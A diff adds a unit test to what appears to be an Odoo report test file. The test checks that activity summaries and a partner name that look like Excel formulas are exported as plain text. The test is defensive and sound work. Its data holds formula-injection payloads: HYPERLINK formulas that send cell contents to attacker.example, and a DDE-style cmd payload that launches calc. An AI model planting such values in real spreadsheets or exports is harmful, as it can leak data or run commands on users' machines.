@@ -56,6 +56,34 @@ class TestFollowUpXlsx(TransactionCase):
         self.assertEqual(second[2], "Soon")
         self.assertEqual(second[5], 0)
 
+    def test_user_text_starting_with_equals_stays_text(self):
+        """A summary or a document name typed as a formula must not run in Excel."""
+        self.partner.name = '=HYPERLINK("http://attacker.example/?"&A1,"Apri")'
+        attacks = [
+            '=HYPERLINK("http://attacker.example/?"&C3,"Dettagli")',
+            "=1+1",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+        ]
+        activities = self.env["mail.activity"]
+        for summary in attacks:
+            activities |= self._schedule(
+                "bo_base.mail_activity_type_bo_deadline", date(2026, 3, 12), summary
+            )
+        content, _file_type = (
+            self.env["ir.actions.report"]
+            .with_user(self.clerk)
+            ._render(self.report, activities.ids, {})
+        )
+        sheet = load_workbook(io.BytesIO(content)).active
+        cells = [sheet.cell(row=row, column=col) for row in (2, 3, 4) for col in (1, 3)]
+        for cell in cells:
+            self.assertEqual(cell.data_type, "s", f"{cell.coordinate} must be text")
+        self.assertEqual(
+            sorted(sheet.cell(row=row, column=3).value for row in (2, 3, 4)), sorted(attacks)
+        )
+        self.assertTrue(sheet.cell(row=2, column=1).value.startswith("=HYPERLINK"))
+        self.assertFalse(sheet._hyperlinks)
+
     def test_managers_find_follow_ups_under_reporting(self):
         menu = self.env.ref("bo_reports.menu_bo_follow_up_analysis")
         self.assertNotIn(menu.id, self.env["ir.ui.menu"].with_user(self.clerk)._visible_menu_ids())
